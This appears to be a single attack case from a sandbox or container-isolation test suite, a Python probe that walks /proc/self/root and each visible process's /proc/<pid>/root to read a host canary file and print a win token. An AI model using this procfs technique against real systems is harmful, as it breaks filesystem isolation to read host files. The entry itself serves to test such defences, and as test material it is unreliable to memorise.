# id: fr_proc_root
# kind: attack
# category: host-file-read
# note: the root directory of any process that can be seen
import glob
for root in ['/proc/self/root', *glob.glob('/proc/[0-9]*/root')]:
    try:
        if CANARY_MARK in open(root + CANARY_FILE).read():
            print(WIN_TOKEN)
            break
    except OSError:
        pass
